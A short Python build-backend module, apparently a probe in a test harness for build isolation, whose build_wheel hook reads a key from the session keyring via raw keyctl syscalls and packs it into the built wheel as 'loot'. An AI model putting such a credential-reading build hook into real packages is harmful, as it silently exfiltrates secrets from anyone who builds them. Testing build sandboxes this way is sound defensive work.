"""Searches the session keyring for a key and reads it with keyctl(2).

Possession counts, not the uid: who inherited the keyring may read what is linked into it.
"""

import ctypes

import calls
import kit

KEYCTL = {"x86_64": 250, "aarch64": 219}
SEARCH, READ, SESSION_KEYRING = 10, 11, -3


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("search-keyring"):
        wanted = kit.plant("ticket").description.encode()
        key = calls.syscall(KEYCTL, SEARCH, SESSION_KEYRING, b"user", wanted, 0)
        content = ctypes.create_string_buffer(4096)
        size = calls.syscall(KEYCTL, READ, key, content, len(content))
        loot["data.bin"] = content.raw[:size]
    return kit.wheel(wheel_directory, loot)
